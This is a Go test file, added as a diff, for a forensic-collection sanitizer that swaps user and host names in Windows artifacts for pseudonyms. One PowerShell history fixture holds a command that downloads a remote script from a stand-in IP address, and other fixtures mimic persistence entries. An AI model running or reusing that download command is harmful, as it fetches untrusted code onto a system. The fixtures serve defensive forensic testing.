@@ -0,0 +1,161 @@
+package core
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"unicode/utf16"
+)
+
+// encodeUTF16LE encodes s as little-endian UTF-16, after a byte order mark
+// when bom is set.
+func encodeUTF16LE(s string, bom bool) string {
+	var b []byte
+	if bom {
+		b = append(b, 0xFF, 0xFE)
+	}
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = binary.LittleEndian.AppendUint16(b, u)
+	}
+	return string(b)
+}
+
+func TestSanitizeMapsUsersConsistently(t *testing.T) {
+	hive := "regf\x00\x00\x00\x01alice\x00\x00"
+	files := map[string]string{
+		"windows_activity/history.json":                  `{"path":"C:\\Users\\alice\\Desktop\\plan.docx","host":"FINANCE-WS7"}`,
+		"users/alice/powershell/ConsoleHost_history.txt": "cd C:\\Users\\alice\\Documents\r\nInvoke-WebRequest http://203.0.113.9/a.ps1\r\n",
+		"users/bob/powershell/ConsoleHost_history.txt":   "whoami\r\n",
+		"windows_tasks/Updater.txt":                      encodeUTF16LE("Author: FINANCE-WS7\\Alice\r\nCommand: C:\\Users\\alice\\upd.exe\r\n", true),
+		"windows_registry/run_keys.reg":                  encodeUTF16LE("\"OneDrive\"=\"C:\\\\Users\\\\alice\\\\AppData\\\\OneDrive.exe\"\r\n", false),
+		"windows_registry/NTUSER_alice.hiv":              hive,
+		"windows_registry/NTUSER_bob.hiv":                hive,
+	}
+	srcDir := t.TempDir()
+	for name, content := range files {
+		path := filepath.Join(srcDir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	manifest, err := BuildCollectionManifest(context.Background(), srcDir, "FINANCE-WS7", testRunID, testTimestamp, true, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := WriteCollectionManifest(srcDir, manifest, ManifestFormatJSON); err != nil {
+		t.Fatal(err)
+	}
+
+	mapPath := filepath.Join(t.TempDir(), "users.json")
+	report, err := SanitizeCollection(context.Background(), srcDir, t.TempDir(), mapPath, nil, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	mapping, err := LoadPseudonymMap(mapPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if mapping.Users["alice"] != "user001" || mapping.Users["bob"] != "user002" || mapping.Hosts["FINANCE-WS7"] != "host001" {
+		t.Fatalf("mapping = %+v", mapping)
+	}
+	if report.TextFiles != 5 || report.BinaryFiles != 2 {
+		t.Fatalf("%d text and %d binary files, want 5 and 2", report.TextFiles, report.BinaryFiles)
+	}
+
+	outDir := t.TempDir()
+	if err := extractAll(context.Background(), report.Archive, outDir, nil); err != nil {
+		t.Fatal(err)
+	}
+	read := func(name string) string {
+		t.Helper()
+		data, err := os.ReadFile(filepath.Join(outDir, filepath.FromSlash(name)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(data)
+	}
+	want := map[string]string{
+		"windows_activity/history.json":                    `{"path":"C:\\Users\\user001\\Desktop\\plan.docx","host":"host001"}`,
+		"users/user001/powershell/ConsoleHost_history.txt": "cd C:\\Users\\user001\\Documents\r\nInvoke-WebRequest http://203.0.113.9/a.ps1\r\n",
+		"users/user002/powershell/ConsoleHost_history.txt": "whoami\r\n",
+		"windows_tasks/Updater.txt":                        encodeUTF16LE("Author: host001\\user001\r\nCommand: C:\\Users\\user001\\upd.exe\r\n", true),
+		"windows_registry/run_keys.reg":                    encodeUTF16LE("\"OneDrive\"=\"C:\\\\Users\\\\user001\\\\AppData\\\\OneDrive.exe\"\r\n", false),
+	}
+	for name, content := range want {
+		if got := read(name); got != content {
+			t.Errorf("%s = %q, want %q", name, got, content)
+		}
+	}
+	// Hives are renamed but keep every byte, the user name inside included
+	for _, name := range []string{"windows_registry/NTUSER_user001.hiv", "windows_registry/NTUSER_user002.hiv"} {
+		if got := read(name); got != hive {
+			t.Errorf("%s content changed to %q", name, got)
+		}
+	}
+
+	err = filepath.Walk(outDir, func(path string, info os.FileInfo, err error) error {
+		if err != nil || info.IsDir() || strings.HasSuffix(path, ".hiv") {
+			return err
+		}
+		data, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		lower := bytes.ToLower(data)
+		for _, name := range []string{"alice", "finance-ws7"} {
+			if bytes.Contains(lower, []byte(name)) || bytes.Contains(lower, []byte(encodeUTF16LE(name, false))) {
+				t.Errorf("%s still names %s", path, name)
+			}
+		}
+		if strings.Contains(strings.ToLower(path), "alice") {
+			t.Errorf("path %s still names alice", path)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestReadTextRecognizesUTF16(t *testing.T) {
+	dir := t.TempDir()
+	tests := []struct {
+		name    string
+		content string
+		text    bool
+	}{
+		{"utf8", "plain text", true},
+		{"utf16le bom", encodeUTF16LE("C:\\Users\\alice", true), true},
+		{"utf16be bom", "\xFE\xFF\x00a\x00l\x00i\x00c\x00e", true},
+		{"utf16le without bom", encodeUTF16LE("Windows Registry Editor Version 5.00\r\n", false), true},
+		{"binary", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", false},
+		{"utf16 with nul", encodeUTF16LE("alice\x00bob", true), false},
+		{"unpaired surrogate", "\xFF\xFE\x00\xD8a\x00", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(dir, strings.ReplaceAll(tt.name, " ", "_"))
+			if err := os.WriteFile(path, []byte(tt.content), 0644); err != nil {
+				t.Fatal(err)
+			}
+			file, ok, err := readText(path, int64(len(tt.content)))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if ok != tt.text {
+				t.Fatalf("readText treated it as text = %v, want %v", ok, tt.text)
+			}
+			// Unchanged text encodes back to the same bytes
+			if ok && string(file.encode(file.text)) != tt.content {
+				t.Fatalf("re-encoded as %q, want %q", file.encode(file.text), tt.content)
+			}
+		})
+	}
+}